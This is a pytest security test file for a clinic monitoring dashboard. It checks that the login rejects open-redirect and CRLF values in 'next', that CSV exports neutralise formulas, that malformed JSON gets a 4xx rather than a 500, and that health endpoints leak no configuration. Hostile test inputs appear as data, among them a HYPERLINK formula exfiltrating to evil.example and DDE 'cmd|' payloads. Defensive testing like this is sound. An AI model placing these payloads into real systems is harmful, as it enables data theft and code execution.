"""Issue 12, points 6 and 7, each test performing the attack: no open redirect through the
login's ``next``; no formula in a CSV export; no 500 for hostile input; the wall display only
where it hangs; /healthz and /metrics telling an anonymous caller nothing of the setup."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from conftest import Harness
from push_support import view
from test_auth import PASSWORD, AuthBay, dash_call

from dashboard.app import create_app
from dashboard.live import LiveBay
from dashboard.server import WebServer
from devices.hl7_listener import Hl7Listener
from devices.mqtt_source import MqttSource
from devices.serial_source import SerialSource
from monitor.config import Hl7Source, parse_config
from monitor.config import MqttSource as MqttConfig
from monitor.config import SerialSource as SerialConfig
from monitor.exports.csv_export import csv_chunks, neutralise
from monitor.records import SessionEventKind

FORMULA_START = tuple("=+-@\t\r\n")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def bay(tmp_path: Path):
    b = AuthBay(tmp_path)
    yield b
    b.h.monitor.close()


def _token(client: Any, url: str = "/login") -> str:
    page = client.get(url).get_data(as_text=True)
    return re.search(r"name='csrf' value='([^']+)'", page).group(1)


# --- point 6: the login's next -------------------------------------------------------------

HOSTILE_NEXT = ["/\t/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/",
                "/\r\nSet-Cookie: chairside_session=forged", "javascript:alert(1)", "/ /evil.example",
                "/\x00x", "\t//evil.example"]


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_login_next_takes_only_a_local_path(bay, target):
    client = bay.client()
    page = client.get("/login", query_string={"next": target})
    assert page.status_code == 400
    assert "next must be a path on this server" in page.get_data(as_text=True)
    form = {"username": "ann", "password": PASSWORD["ann"], "next": target, "csrf": _token(client)}
    answer = client.post("/login", data=form)
    assert answer.status_code == 400 and "Location" not in answer.headers
    assert "next must be a path on this server" in answer.get_data(as_text=True)
    answer = client.post("/login", json={"username": "ann", "password": PASSWORD["ann"], "next": target})
    assert answer.status_code == 400 and "next must be" in answer.get_json()["error"]
    assert client.get("/api/v1/chairs").status_code == 401  # refused before any login


def test_login_next_goes_to_a_local_path(bay):
    client = bay.client()
    page = client.get("/login?next=/alarms%3Fstate%3Dall").get_data(as_text=True)
    assert "value='/alarms?state=all'" in page
    form = {"username": "ann", "password": PASSWORD["ann"], "next": "/chair/c1", "csrf": _token(client)}
    answer = client.post("/login", data=form)
    assert answer.status_code == 302 and answer.headers["Location"] == "/chair/c1"


def test_tab_and_crlf_in_next_through_a_real_server(bay):
    """The assessor's requests, as bytes on a socket: /login?next=/%09/evil.example and a
    protected path holding CR LF (its redirect to the login must not split the header)."""
    server = WebServer(bay.server, port=0, auth_enabled=True)
    server.start()
    try:
        conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
        conn.request("GET", "/login?next=/%09/evil.example")
        answer = conn.getresponse()
        body = answer.read().decode()
        assert answer.status == 400 and "next must be a path on this server" in body
        conn.request("GET", "/chair/c1%0D%0ASet-Cookie:%20x=1")
        answer = conn.getresponse()
        answer.read()
        assert answer.status == 302 and answer.getheader("Set-Cookie") is None
        location = answer.getheader("Location")
        assert location == "/login?next=/chair/c1%0D%0ASet-Cookie%3A%20x%3D1"
        conn.request("GET", location)  # the login then refuses that next with a message
        answer = conn.getresponse()
        assert answer.status == 400 and "next must be" in answer.read().decode()
        conn.close()
    finally:
        server.stop()


# --- point 6: CSV exports ------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for the chart")'


def test_csv_exports_neutralise_formulas(tmp_path):
    h = Harness(tmp_path)
    try:
        app = create_app(LiveBay(h.monitor, max_age=0))
        client = app.server.test_client()
        answer = client.post("/api/v1/chairs/c1/sessions", json={"user": "@nurse", "patient": HYPERLINK})
        assert answer.status_code == 201
        sid = answer.get_json()["id"]
        h.monitor.session_step(sid, SessionEventKind.NOTE, "nurse.ann", "+cmd|' /C calc'!A0")
        for i in range(5):  # a device naming itself a formula, and a CR in a device name
            h.monitor.ingest([h.reading("spo2", 97 - i, device="-2+3+cmd|' /C calc'!A0"),
                              h.reading("hr", 72, device="ok\r=1+1")])
            h.clock.advance(1)
        h.flush()
        text = client.get(f"/api/v1/sessions/{sid}/export?format=csv").get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 11
        devices = {r[6] for r in rows[1:]}
        assert devices == {"'-2+3+cmd|' /C calc'!A0", "ok\r=1+1"}  # the CR one: quoted, one cell
        assert '"ok\r=1+1"' in text
        assert sorted(r[4] for r in rows[1:] if r[3] == "spo2") == ["93", "94", "95", "96", "97"]
        archive = client.get(f"/api/v1/sessions/{sid}/export?format=zip").get_data()
        with zipfile.ZipFile(io.BytesIO(archive)) as zf:
            tables = {Path(n).name: list(csv.reader(io.StringIO(zf.read(n).decode(), newline="")))
                      for n in zf.namelist()}
        session = dict(zip(*tables["session.csv"], strict=True))
        assert session["patient"] == "'" + HYPERLINK and session["started_by"] == "'@nurse"
        assert [r[5] for r in tables["events.csv"][1:] if r[3] == "note"] == ["'+cmd|' /C calc'!A0"]
        for name, table in tables.items():  # no cell anywhere a spreadsheet would run
            for row in table:
                for cell in row:
                    assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (name, cell)
    finally:
        h.monitor.close()


def test_numbers_stay_numbers_and_text_is_neutralised():
    assert [neutralise(c) for c in ("-3", "-0.5", "+1e5", -3, 2.5, None, "", "97")] == \
        ["-3", "-0.5", "+1e5", -3, 2.5, None, "", "97"]
    assert [neutralise(c) for c in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "\nx", "- 3",
                                    "\uff1d1", "x=1")] == \
        ["'=1+1", "'+A1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "'\nx", "'- 3", "'\uff1d1", "x=1"]
    out = "".join(csv_chunks(iter([("-3", "=1", -3.5, "ok")]), ("a", "b", "c", "d")))
    assert out == "a,b,c,d\n-3,'=1,-3.5,ok\n"


# --- point 6: no input gives a 500 ---------------------------------------------------------


def test_hostile_dash_requests_answer_4xx_with_a_message(tmp_path):
    b = AuthBay(tmp_path, wall_display=True)
    try:
        nurse, wall = b.client("ann"), b.client()
        assert nurse.get("/chair/c1").status_code == 200  # registers the pages' callbacks
        deep = '{"output": "x", "inputs": ' + "[" * 100_000 + "]" * 100_000 + "}"
        key = next(k for k in b.app.callback_map if "chair-alarms.children" in k and "chair-trends" in k)
        unknown_chair = dash_call(b.app, key, {"chair-slow": 1, "chair-id": "c99"})
        attempts = [
            (deep, 400, "nested deeper than 64 levels"),
            ('{"output": ' * 70 + "1" + "}" * 70, 400, "nested deeper"),
            ("[1]", 400, "a callback request is a JSON object"),
            ("{not json", 400, "not usable JSON"),
            (json.dumps({"output": "nope.children", "outputs": {"id": "nope", "property": "children"},
                         "inputs": [], "state": [], "changedPropIds": []}), 400, "no callback for output"),
            (json.dumps({**unknown_chair, "inputs": []}), 400,
             f"inputs must have {len(b.app.callback_map[key]['inputs'])} entries"),
            (json.dumps({**unknown_chair, "state": [{"id": "chair-id"}]}), 400, "\"property\""),
            (json.dumps({**unknown_chair, "changedPropIds": 7}), 400, "changedPropIds"),
            (json.dumps(unknown_chair), 404, "no chair 'c99' in this bay"),
            (json.dumps(dash_call(b.app, key, {"chair-slow": 1, "chair-id": {"a": 1}})), 404, "no chair"),
        ]
        for client in (nurse, wall):  # a logged-in nurse, and the wall display without login
            for body, status, message in attempts:
                answer = client.post("/_dash-update-component", data=body, content_type="application/json")
                assert answer.status_code == status, (body[:80], answer.get_data(as_text=True)[:300])
                assert message in answer.get_json()["error"], (body[:80], answer.get_json())
        answer = nurse.post("/_dash-update-component", json=dash_call(b.app, key, {"chair-slow": 1,
                                                                                   "chair-id": "c1"}))
        assert answer.status_code == 200  # the real request still works
        # the API and the login parse JSON the same way: 400 or 401, never a RecursionError
        small = '{"duration_s": ' + "[" * 5000 + "]" * 5000 + "}"  # under the API's 16 KiB
        answer = nurse.post("/api/v1/chairs/c1/pause-audio", data=small, content_type="application/json")
        assert answer.status_code == 400 and "error" in answer.get_json()
        answer = b.client().post("/login", data=small, content_type="application/json")
        assert answer.status_code == 401
    finally:
        b.h.monitor.close()


def test_hostile_dash_requests_without_a_session_get_401(bay):
    """Without login (and no wall display) the checks tell nothing: 401 first."""
    client = bay.client()
    deep = "[" * 100_000 + "]" * 100_000
    for body in (deep, '{"output": "nope.children"}', "[1]"):
        answer = client.post("/_dash-update-component", data=body, content_type="application/json")
        assert answer.status_code == 401 and answer.get_json() == {"error": "login required"}


# --- point 7: the wall display only where it hangs -----------------------------------------

POPUPS = {"output": "popups.children", "outputs": {"id": "popups", "property": "children"},
          "inputs": [{"id": "popup-sig", "property": "data", "value": None}],
          "changedPropIds": ["popup-sig.data"]}


def test_the_wall_display_only_from_its_network(tmp_path):
    b = AuthBay(tmp_path, wall_display=True, wall_display_from=["10.2.3.0/24"])
    try:
        b.h.monitor.start_session("c1", "Ann Example", "nurse.ann")
        b.h.feed("nibp_sys", 210)
        screen = b.server.test_client()
        screen.environ_base["REMOTE_ADDR"] = "10.2.3.7"
        assert screen.get("/").status_code == 200
        assert "Wall display" in screen.get("/_dash-layout").get_data(as_text=True)
        answer = screen.post("/_dash-update-component", json=POPUPS)
        assert answer.status_code == 200 and "NIBP sys 210" in answer.get_data(as_text=True)
        assert "NIBP sys 210" in view(screen)["c1|alarm"]  # its push stream
        mapped = b.server.test_client()  # an IPv4 screen seen through an IPv6 socket
        mapped.environ_base["REMOTE_ADDR"] = "::ffff:10.2.3.8"
        assert mapped.get("/").status_code == 200
        for addr in ("10.2.4.7", "192.0.2.1", "127.0.0.1", "::1", "fe80::1", "not-an-address"):
            other = b.server.test_client()
            other.environ_base["REMOTE_ADDR"] = addr
            answer = other.get("/")
            assert answer.status_code == 302 and answer.headers["Location"].startswith("/login"), addr
            assert other.get("/chair/c1").headers["Location"].startswith("/login")
            for path in ("/_dash-layout", "/_dash-dependencies"):
                assert other.get(path).status_code == 401, (addr, path)
            answer = other.post("/_dash-update-component", json=POPUPS)
            assert answer.status_code == 401 and answer.get_json() == {"error": "login required"}
            answer = other.get("/live/stream?tab=" + "a" * 32)
            assert answer.status_code == 401 and answer.get_json() == {"error": "login required"}
            assert "Ann Example" not in answer.get_data(as_text=True)
        nurse = b.server.test_client()  # a nurse logs in from anywhere
        nurse.environ_base["REMOTE_ADDR"] = "192.0.2.1"
        assert nurse.post("/login", json={"username": "ann", "password": PASSWORD["ann"]}).status_code == 200
        assert nurse.post("/_dash-update-component", json=POPUPS).status_code == 200
        assert "NIBP sys 210" in view(nurse)["c1|alarm"]
    finally:
        b.h.monitor.close()


@pytest.mark.parametrize(("allowed", "shown"), [(None, True), (["10.2.3.0/24"], False)])
def test_the_wall_display_allow_list_on_a_real_socket(tmp_path, allowed, shown):
    """Default: loopback only (the bay's own screen); a list without loopback refuses it."""
    auth = {"wall_display": True} | ({"wall_display_from": allowed} if allowed else {})
    b = AuthBay(tmp_path, **auth)
    server = WebServer(b.server, port=0, auth_enabled=True)
    server.start()
    try:
        conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
        conn.request("GET", "/")
        answer = conn.getresponse()
        answer.read()
        if shown:
            assert answer.status == 200
        else:
            assert answer.status == 302 and answer.getheader("Location") == "/login"
        conn.close()
    finally:
        server.stop()
        b.h.monitor.close()


def test_the_wall_display_allow_list_defaults_to_loopback_and_is_validated():
    config = parse_config({"chairs": [{"id": "c1"}]})
    assert [str(n) for n in config.auth.wall_display_from] == ["127.0.0.0/8", "::1/128"]
    with pytest.raises(Exception, match=r"auth\.wall_display_from\[0\]"):
        parse_config({"chairs": [{"id": "c1"}], "auth": {"wall_display_from": ["the ward"]}})


# --- point 7: /healthz and /metrics to anonymous callers ------------------------------------

SECRETS = ("broker-7.ward.example", "cs-monitor-secret", "mqttuser-secret", "/dev/ttyUSB-secret",
           "10.77.0.5")


def _sources(h: Harness, tmp_path: Path) -> list[Any]:
    mqtt = MqttSource(MqttConfig.model_validate({
        "kind": "mqtt", "name": "broker1", "host": "broker-7.ward.example", "client_id": "cs-monitor-secret",
        "username": "mqttuser-secret", "chairs": {"c01": "c1"}}), h.monitor)
    serial = SerialSource(SerialConfig.model_validate({
        "kind": "serial", "name": "rad97", "chair": "c2", "port": "/dev/ttyUSB-secret",
        "protocol": "masimo"}), h.monitor)
    hl7 = Hl7Listener(Hl7Source.model_validate({"kind": "hl7", "name": "gw", "host": "10.77.0.5",
                                                "port": 0, "insecure_plain": True,
                                                "allow": ["10.77.0.0/24"]}), h.monitor)
    return [mqtt, serial, hl7]


def test_health_and_metrics_tell_anonymous_callers_nothing_of_the_setup(bay, tmp_path):
    live = bay.server.config["CHAIRSIDE_LIVE"]
    live.sources.extend(_sources(bay.h, tmp_path))
    # a source's link down, its message naming the client id (as a session takeover does)
    bay.h.monitor.report_source("broker1", False, "client with id 'cs-monitor-secret' at "
                                "broker-7.ward.example took the session over")
    anonymous = bay.client()
    answer = anonymous.get("/healthz")
    assert answer.status_code == 503  # the load balancer's answer is unchanged
    body = answer.get_json()
    assert set(body) == {"status", "role", "store_writable", "adapters", "source_problems"}
    assert body["role"] == "leader"  # which server of a pair this is: for the proxy in front
    assert body["status"] == "degraded" and body["store_writable"] is True
    assert [(a["name"], a["kind"], a["state"]) for a in body["adapters"]] == [
        ("broker1", "mqtt", "stopped"), ("rad97", "serial", "stopped"), ("gw", "hl7", "stopped")]
    assert list(body["source_problems"]) == ["broker1"]
    metrics = anonymous.get("/metrics")
    assert metrics.status_code == 200 and "chairside_source_up" in metrics.get_data(as_text=True)
    for text in (answer.get_data(as_text=True), metrics.get_data(as_text=True)):
        for secret in SECRETS:
            assert secret not in text
        for user in ("ann", "adm"):
            assert f'"{user}"' not in text
    # the detail: for who may read the configuration (charge nurse, admin), else 401/403
    assert anonymous.get("/api/v1/health").status_code == 401
    assert bay.client("ann").get("/api/v1/health").status_code == 403
    detail = bay.client("adm").get("/api/v1/health")
    assert detail.status_code == 503 and detail.headers["Cache-Control"] == "no-store"
    text = detail.get_data(as_text=True)
    assert all(secret in text for secret in SECRETS if secret != "mqttuser-secret")
    assert detail.get_json()["store"]["writer_alive"] is True
    assert set(bay.client("adm").get("/healthz").get_json()) == set(body)  # the same for everyone
